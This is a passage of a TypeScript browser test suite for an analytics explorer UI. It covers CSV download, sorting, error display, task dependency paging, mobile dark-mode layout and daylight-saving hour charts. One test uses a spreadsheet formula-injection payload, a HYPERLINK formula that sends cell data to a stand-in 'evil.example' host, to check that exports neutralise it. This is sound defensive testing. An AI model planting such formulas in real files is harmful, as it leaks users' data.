    expect(csv.status).toBe(200);
    const name = /filename="([^"]+)"/.exec(csv.headers.get('content-disposition') ?? '')?.[1];
    expect(name).toMatch(/\.csv$/);

    const saving = page.waitForEvent('download', BUSY);
    await page.getByRole('button', { name: 'Download CSV' }).click();
    const download = await saving;
    expect(download.suggestedFilename()).toBe(name);
    expect(fs.readFileSync((await download.path())!, 'utf8')).toBe(csv.text);
    await expect
      .poll(() => page.locator('#status').textContent())
      .toBe(`Saved the answer as ${name}.`);
  });

  it('shows a label that starts like a formula as it is, and downloads it behind a quote', async () => {
    const label = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
    const task = { business: 'globex', name: 'Formula', project: label };
    expect((await api('POST', '/api/v1/tasks', task)).status).toBe(201);
    const body = {
      metrics: ['tasks_created'],
      dimensions: ['project'],
      period: 'today',
      business: 'globex',
      filters: [{ dimension: 'project', op: 'eq', values: [label] }],
    };
    await waitFor(
      async () => (await api('POST', '/api/v1/query', body)).body.data[0]?.tasks_created === 1,
      { timeoutMs: 60_000 },
    );
    await page.goto(`${cairn.url}/explore?q=${encodeURIComponent(JSON.stringify(body))}`);
    await page.locator('#results[data-state="done"]').waitFor(BUSY);
    expect(await tableRows()).toEqual([{ project: label, tasks_created: 1 }]);

    const saving = page.waitForEvent('download', BUSY);
    await page.getByRole('button', { name: 'Download CSV' }).click();
    const download = await saving;
    // A spreadsheet opening the file shows the text; it runs no formula.
    expect(fs.readFileSync((await download.path())!, 'utf8')).toBe(
      `project,tasks_created\r\n"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",1\r\n`,
    );
  });

  it('sorts the table, draws bars for labels and follows a label to its filtered query', async () => {
    const body = {
      metrics: ['tasks_created', 'completion_rate'],
      dimensions: ['project'],
      period: 'last_90_days',
      business: 'acme',
    };
    const request = page.waitForRequest(isQuery, BUSY);
    await page.goto(`${cairn.url}/explore?q=${encodeURIComponent(JSON.stringify(body))}`);
    expect(queryOf(await request)).toMatchObject(body);
    await page.locator('#results[data-state="done"]').waitFor(BUSY);
    expect(await page.locator('#chart-caption').textContent()).toMatch(/^Bars/);

    const answer = (await api('POST', '/api/v1/query', body)).body;
    expect(await tableRows()).toEqual(answer.data);
    await page.locator('thead button', { hasText: /^Tasks created$/ }).click();
    await page.locator('thead button', { hasText: /^Tasks created$/ }).click();
    const sorted = [...answer.data].sort((a, b) => b.tasks_created - a.tasks_created);
    expect((await tableRows()).map((r) => r.tasks_created)).toEqual(
      sorted.map((r) => r.tasks_created),
    );
    expect(await page.locator('th[data-column="tasks_created"]').getAttribute('aria-sort')).toBe(
      'descending',
    );

    const label = page.locator('#table tbody a[data-filter="project"]').first();
    const project = await label.textContent();
    const followed = page.waitForRequest(isQuery, BUSY);
    await label.click();
    const narrowed = queryOf(await followed);
    expect(narrowed.filters).toEqual([{ dimension: 'project', op: 'eq', values: [project] }]);
    expect(narrowed.dimensions).toEqual(['day']);
    await page.locator('#results[data-state="done"]').waitFor(BUSY);
    expect(JSON.parse(new URL(page.url()).searchParams.get('q')!)).toEqual(narrowed);
    expect(await tableRows()).toEqual((await api('POST', '/api/v1/query', narrowed)).body.data);
  });

  it('shows a 422 beside the field it names, in the API’s words', async () => {
    await page.getByLabel('Time zone').fill('Mars/Olympus_Mons');
    const sent = await runAndWait();
    expect(await page.locator('#results').getAttribute('data-state')).toBe('failed');
    const refusal = await api('POST', '/api/v1/query', sent);
    expect(refusal.status).toBe(422);
    const issue = refusal.body.detail.find((d: { loc: string[] }) => d.loc[1] === 'timezone');
    const shown = page.locator('#field-timezone .field-error');
    expect(await shown.textContent()).toBe(issue.msg);
    expect(await page.getByLabel('Time zone').getAttribute('aria-invalid')).toBe('true');
    // The previous answer is gone, not left beside a form it no longer matches.
    expect(await page.locator('#table-wrap').isHidden()).toBe(true);
    expect(await page.locator('#chart').isHidden()).toBe(true);
    expect(await page.getByLabel('Time zone').getAttribute('aria-describedby')).toBe(
      await shown.getAttribute('id'),
    );
    expect(await accessibilityViolations(page)).toEqual([]);
    await shoot(page, 'explorer-422');

    await page.getByLabel('Time zone').fill('Europe/Paris');
    await runAndWait();
    expect(await page.locator('#results').getAttribute('data-state')).toBe('done');
    expect(await page.locator('#field-timezone .field-error').count()).toBe(0);
  });

  it('pages through a task’s dependents and clicks through to theirs', async () => {
    const pageOf = async (offset?: string) =>
      (
        await api(
          'GET',
          `/api/v1/tasks/${hub}/dependents?limit=10${offset ? `&offset=${encodeURIComponent(offset)}` : ''}`,
        )
      ).body;
    const first = await pageOf();
    const second = await pageOf(first.pagination.next_offset);
    const listed = () =>
      page.$$eval('#dependents-list li[data-gid]', (items) =>
        items.map((li) => li.getAttribute('data-gid')),
      );

    await page.getByLabel('Task ID').fill(hub);
    await page.getByRole('button', { name: 'Show dependents' }).click();
    await expect
      .poll(() => page.locator('#dependents-status').textContent(), BUSY)
      .toMatch(/^Page 1: 10 dependents; more follow/);
    expect(await listed()).toEqual(first.data.map((t: { gid: string }) => t.gid));
    expect(new URL(page.url()).searchParams.get('task')).toBe(hub);

    await page.getByRole('button', { name: 'Next page' }).click();
    await expect
      .poll(() => page.locator('#dependents-status').textContent(), BUSY)
      .toMatch(/^Page 2: 2 dependents\.$/);
    expect(await listed()).toEqual(second.data.map((t: { gid: string }) => t.gid));
    expect(await page.getByRole('button', { name: 'Next page' }).isHidden()).toBe(true);

    await page.getByRole('button', { name: 'First page' }).click();
    await expect.poll(listed, BUSY).toEqual(first.data.map((t: { gid: string }) => t.gid));
    await page.getByRole('button', { name: 'Dependents of Follow-up 1', exact: true }).click();
    await expect.poll(listed, BUSY).toEqual(firstDependent.dependents);
    expect(await page.locator('#trail').textContent()).toContain('Follow-up 1');
    expect(await accessibilityViolations(page)).toEqual([]);
    await shoot(page, 'explorer-dependents');

    // Not a gid, so a name search: no raw pattern error, and the last task's list is gone.
    await page.getByLabel('Task ID').fill('no such task!');
    await page.getByLabel('Task ID').press('Enter');
    await expect
      .poll(() => page.locator('#task-error').textContent(), BUSY)
      .toBe('No task’s name contains “no such task!” (a task ID is a UUID).');
    expect(await page.getByLabel('Task ID').getAttribute('aria-invalid')).toBe('true');
    expect(await listed()).toEqual([]);
    expect(await page.locator('#trail').textContent()).toBe('');
  });

  it('finds a task by name, walks both directions at any depth, filtered by status', async () => {
    const listed = () =>
      page.$$eval('#dependents-list li[data-gid]', (items) =>
        items.map((li) => [li.getAttribute('data-gid'), Number(li.getAttribute('data-depth'))]),
      );
    const status = () => page.locator('#dependents-status').textContent();
    // A typed name is searched for, never tried as a task ID (a 404 in the console).
    const triedAsId: string[] = [];
    const watch = (request: Request) => {
      const [, gid] = /^\/api\/v1\/tasks\/([^/]+)/.exec(new URL(request.url()).pathname) ?? [];
      if (gid && !/^[0-9a-f-]{36}$/.test(decodeURIComponent(gid))) triedAsId.push(gid);
    };
    page.on('request', watch);
    const [leafA] = firstDependent.dependents;
    expect((await api('PUT', `/api/v1/tasks/${leafA}`, { status: 'completed' })).status).toBe(200);

    // One task by that name: opened at once.
    await page.getByLabel('Task ID').fill('Hub task');
    await page.getByRole('button', { name: 'Show dependents' }).click();
    await expect.poll(status, BUSY).toMatch(/^Page 1: 10 dependents; more follow/);
    expect(await page.locator('#trail').textContent()).toBe('Hub task');

    // Several: listed to pick from.
    await page.getByLabel('Task ID').fill('Follow-up');
    await page.getByLabel('Task ID').press('Enter');
    await expect
      .poll(status, BUSY)
      .toBe('12 tasks have “Follow-up” in their name; the first 10 are listed: pick one.');
    // Each match says whose it is and where it stands.
    expect(await page.locator('#dependents-list li.match').first().textContent()).toMatch(
      /Follow-up 1\s*open\s*acme · website/,
    );
    await page.getByRole('button', { name: 'Follow-up 1', exact: true }).click();
    await expect.poll(listed, BUSY).toEqual(firstDependent.dependents.map((gid) => [gid, 1]));

    // Every task the hub holds up, at any depth, each with its depth, as the API pages them.
    await page.getByLabel('Task ID').fill(hub);
    await page.getByLabel('Depth').selectOption('all');
    await page.getByLabel('Task ID').press('Enter');
    // Grouped by depth (the nearest first), in the API's order within a group.
    const byDepth = <T extends { depth: number }>(items: T[]) =>
      [...items].sort((a, b) => a.depth - b.depth);
    const deep = byDepth(
      (await api('GET', `/api/v1/tasks/${hub}/dependents?depth=all&limit=10&opt_fields=status`))
        .body.data as Array<{ gid: string; depth: number; status: string }>,
    );
    await expect.poll(listed, BUSY).toEqual(deep.map((t) => [t.gid, t.depth]));
    expect(await status()).toBe('Page 1: 10 dependents at any depth; more follow.');
    const depths = [...new Set(deep.map((t) => t.depth))];
    expect(await page.locator('#dependents-list .depth-group summary').allTextContents()).toEqual(
      depths.map((depth) => {
        const count = deep.filter((t) => t.depth === depth).length;
        const where = depth === 1 ? 'Directly linked' : `${depth} links away`;
        return `${where}: ${count} ${count === 1 ? 'dependent' : 'dependents'}`;
      }),
    );
    // A group folds away and opens again.
    const firstGroup = page.locator('#dependents-list .depth-group').first();
    await firstGroup.locator('summary').click();
    expect(await firstGroup.locator('li[data-gid]').first().isVisible()).toBe(false);
    await firstGroup.locator('summary').click();
    expect(await firstGroup.locator('li[data-gid]').first().isVisible()).toBe(true);
    // Each with its status, as the API has it (pages are in gid order: any task may be here).
    const statuses = deep.map((t) => t.status);
    expect(await page.locator('#dependents-list li .state').allTextContents()).toEqual(statuses);
    expect(await accessibilityViolations(page)).toEqual([]);
    await shoot(page, 'explorer-dependents-depth-all');

    await page.getByRole('combobox', { name: 'Status' }).selectOption('completed');
    await page.getByLabel('Task ID').press('Enter');
    // A task two links away says so (the unfiltered first page, in gid order, may not hold one).
    await expect.poll(listed, BUSY).toEqual([[leafA, 2]]);
    expect(await status()).toBe('Page 1: 1 completed dependent at any depth.');

    // The other way: what the leaf waits for, directly and at any depth.
    await page.getByRole('combobox', { name: 'Status' }).selectOption('');
    await page.getByLabel('Direction').selectOption('dependencies');
    await page.getByLabel('Depth').selectOption('1');
    await page.getByLabel('Task ID').fill(leafA!);
    await page.getByRole('button', { name: 'Show dependencies' }).click();
    await expect.poll(listed, BUSY).toEqual([[firstDependent.gid, 1]]);
    await page.getByLabel('Depth').selectOption('all');
    await page.getByLabel('Task ID').press('Enter');
    await expect.poll(listed, BUSY).toEqual([
      [firstDependent.gid, 1],
      [hub, 2],
    ]);
    await page.getByRole('button', { name: 'Dependencies of Hub task', exact: true }).click();
    await expect.poll(status, BUSY).toBe('No dependencies at any depth.');
    await page.getByLabel('Direction').selectOption('dependents');
    await page.getByLabel('Depth').selectOption('1');
    page.off('request', watch);
    expect(triedAsId).toEqual([]);
  });

  it('reads on a narrow screen in the dark scheme', async () => {
    const narrow = await launchBrowser({
      colorScheme: 'dark',
      viewport: { width: 390, height: 844 },
    });
    try {
      const phone = await narrow.context.newPage();
      await phone.goto(page.url());
      const token = cairn.auth.Authorization.replace('Bearer ', '');
      await phone.evaluate(`sessionStorage.setItem('cairn.token', ${JSON.stringify(token)})`);
      await phone.reload();
      await phone.locator('#results[data-state="done"]').waitFor(BUSY);
      const overflow = await phone.evaluate(
        'document.documentElement.scrollWidth - document.documentElement.clientWidth',
      );
      expect(overflow).toBeLessThanOrEqual(0);
      // Every legend wraps inside its chart rather than running off the side.
      const legendOverflow = await phone.$$eval('#chart .legend', (legends) =>
        legends.map((legend) => legend.scrollWidth - (legend.parentElement?.clientWidth ?? 0)),
      );
      expect(legendOverflow.length).toBeGreaterThan(0);
      for (const extra of legendOverflow) expect(extra).toBeLessThanOrEqual(0);
      const background = await phone.evaluate('getComputedStyle(document.body).backgroundColor');
      expect(background).toBe('rgb(15, 20, 25)');
      // Results and the dependents from the link, then an error, then a page with no token yet.
      await expect
        .poll(() => phone.locator('#dependents-list li[data-gid]').count(), BUSY)
        .toBeGreaterThan(0);
      // However the form wraps, Depth stays on the line of its select.
      const [depthLabel, depthSelect] = await Promise.all(
        [phone.locator('label[for="dependents-depth"]'), phone.locator('#dependents-depth')].map(
          (l) => l.boundingBox(),
        ),
      );
      expect(
        Math.abs(
          depthLabel!.y + depthLabel!.height / 2 - (depthSelect!.y + depthSelect!.height / 2),
        ),
      ).toBeLessThan(4);
      expect(depthSelect!.x).toBeGreaterThan(depthLabel!.x);
      expect(await accessibilityViolations(phone)).toEqual([]);
      await phone.screenshot({
        path: path.join(SHOTS, 'explorer-narrow-dark-390.png'),
        fullPage: true,
      });
      await phone.getByLabel('Time zone').fill('Mars/Olympus_Mons');
      await phone.getByRole('button', { name: 'Run', exact: true }).click();
      await phone.locator('#results[data-state="failed"]').waitFor(BUSY);
      expect(await accessibilityViolations(phone)).toEqual([]);
      await phone.screenshot({
        path: path.join(SHOTS, 'explorer-narrow-422-390.png'),
        fullPage: true,
      });
      // A breakdown's legend (five labels, "other") wraps inside the chart too.
      const day = (daysAgo: number) =>
        new Date(Date.now() - daysAgo * 86_400_000).toISOString().slice(0, 10);
      const breakdown = {
        metrics: ['tasks_created'],
        dimensions: ['month', 'project'],
        date_range: [day(70), day(35)],
      };
      await phone.goto(`${cairn.url}/explore?q=${encodeURIComponent(JSON.stringify(breakdown))}`);
      await phone.locator('#results[data-state="done"]').waitFor(BUSY);
      expect(await phone.locator('#chart .legend tbody tr').count()).toBe(6);
      // The legend scrolls inside its box: never taller than the chart it explains.
      const heights = await phone.$$eval('#chart .plot', (plots) =>
        plots.map((plot) => [
          plot.querySelector('.legend')?.getBoundingClientRect().height ?? 0,
          plot.querySelector('canvas')?.getBoundingClientRect().height ?? 0,
        ]),
      );
      for (const [legend, canvas] of heights) expect(legend).toBeLessThanOrEqual(canvas!);
      const wide = await phone.$$eval('#chart .legend', (legends) =>
        legends.map((legend) => legend.scrollWidth - (legend.parentElement?.clientWidth ?? 0)),
      );
      for (const extra of wide) expect(extra).toBeLessThanOrEqual(0);
      expect(
        await phone.evaluate(
          'document.documentElement.scrollWidth - document.documentElement.clientWidth',
        ),
      ).toBeLessThanOrEqual(0);
      expect(await accessibilityViolations(phone)).toEqual([]);
      await phone.screenshot({
        path: path.join(SHOTS, 'explorer-narrow-breakdown-390.png'),
        fullPage: true,
      });
      const empty = await narrow.context.newPage();
      await empty.goto(`${cairn.url}/explore`);
      expect(await accessibilityViolations(empty)).toEqual([]);
      await empty.screenshot({
        path: path.join(SHOTS, 'explorer-narrow-empty-390.png'),
        fullPage: true,
      });
    } finally {
      await narrow.close();
    }
  });

  it('loaded at most 150 KB of JavaScript, compressed, and logged no errors', async () => {
    // A browser of its own: this one's cache already holds every (immutable) asset.
    const cold = await launchBrowser();
    try {
      const fresh = await cold.context.newPage();
      const scripts: Array<Promise<number>> = [];
      const encodings: string[] = [];
      fresh.on('response', (response) => {
        if (response.request().resourceType() === 'script') {
          encodings.push(response.headers()['content-encoding'] ?? 'identity');
          scripts.push(
            response
              .request()
              .sizes()
              .then((sizes) => sizes.responseBodySize),
          );
        }
      });
      await fresh.goto(`${cairn.url}/explore`);
      await fresh.waitForLoadState('networkidle');
      const bytes = (await Promise.all(scripts)).reduce((a, b) => a + b, 0);
      expect(scripts.length).toBeGreaterThanOrEqual(5);
      // Chromium offers br only over HTTPS; over plain HTTP gzip is the best it takes.
      for (const encoding of encodings) expect(encoding).toMatch(/^(br|gzip)$/);
      expect(bytes).toBeGreaterThan(10_000);
      expect(bytes).toBeLessThanOrEqual(150 * 1024);
    } finally {
      await cold.close();
    }
    expect(problems).toEqual([]);
  });
});

describe('the explorer’s hour axis on a night the clocks go back', () => {
  // No row cap here, and no data needed: a series answers every bucket of its period.
  const cairn = useCairn();
  let browser: Browser;
  beforeAll(async () => {
    browser = await launchBrowser();
  }, 120_000);
  afterAll(async () => {
    await browser?.close();
  });

  it('draws one point per hourly row, both 01:00 of the night included', async () => {
    // New York left summer time on 2 November 2025: that day has 25 hours, the next 24.
    const body = {
      metrics: ['tasks_created'],
      dimensions: ['hour'],
      date_range: ['2025-11-02', '2025-11-03'],
      timezone: 'America/New_York',
    };
    const answer = (await http(cairn.url, 'POST', '/api/v1/query', { headers: cairn.auth, body }))
      .body;
    expect(answer.data.length).toBe(49);
    const hours = answer.data.map((row: { hour: string }) => row.hour);
    expect(hours).toContain('2025-11-02T01:00:00-04:00');
    expect(hours).toContain('2025-11-02T01:00:00-05:00');

    const page = await browser.context.newPage();
    await page.setViewportSize(DESKTOP);
    await page.goto(`${cairn.url}/explore`);
    const token = cairn.auth.Authorization.replace('Bearer ', '');
    await page.evaluate(`sessionStorage.setItem('cairn.token', ${JSON.stringify(token)})`);
    await page.goto(`${cairn.url}/explore?q=${encodeURIComponent(JSON.stringify(body))}`);
    await page.locator('#results[data-state="done"]').waitFor(BUSY);
    const x = (await page.evaluate(
      "document.getElementById('chart-canvas').plots[0].data[0]",
    )) as number[];
    expect(x).toEqual(hours.map((hour: string) => Date.parse(hour) / 1000));
    expect(await page.locator('#chart .plot').getAttribute('data-points')).toBe('49');
    // Ticked on round hours of the zone (midnights, noons…), each one of the rows' hours.
    const splits = (await page.evaluate(
      "document.getElementById('chart-canvas').plots[0].axes[0]._splits",
    )) as number[];
    expect(splits.length).toBeGreaterThan(1);
    for (const split of splits) {
      const hour = hours[x.indexOf(split)];
      expect(Number(/T(\d{2})/.exec(hour)?.[1]) % 6).toBe(0);
    }
    await page.screenshot({
      path: path.join(SHOTS, 'explorer-dst-hours-1366.png'),
      fullPage: true,
    });
  });
});
